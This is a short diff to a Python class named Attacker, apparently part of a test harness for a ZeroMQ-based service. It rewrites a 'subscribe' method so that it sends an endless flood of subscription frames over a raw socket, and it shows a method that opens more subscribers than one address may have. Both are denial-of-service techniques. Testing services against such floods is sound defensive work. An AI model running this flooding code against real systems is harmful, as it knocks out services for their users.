@@ -141,12 +141,18 @@ class Attacker:
         del socket
 
     def subscribe(self) -> None:
-        """Endless subscriptions, each to another topic."""
-        socket = self.socket(zmq.SUB)
+        """Endless subscriptions, each to another topic.
+
+        By hand: libzmq keeps each (7 KiB), and sends them all again on every new connection, so
+        that it would soon have no time left for a second attack.
+        """
         number = 0
         while True:
-            number += 1
-            socket.subscribe(b"v%032d" % number * 8)
+            with contextlib.suppress(OSError):
+                raw = self.raw(b"SUB")
+                while True:
+                    number += 1
+                    raw.send(b"\x01" + b"v%032d" % number * 8)
 
     def subscribe_often(self) -> None:
         """More honest-looking subscribers than one address may have."""
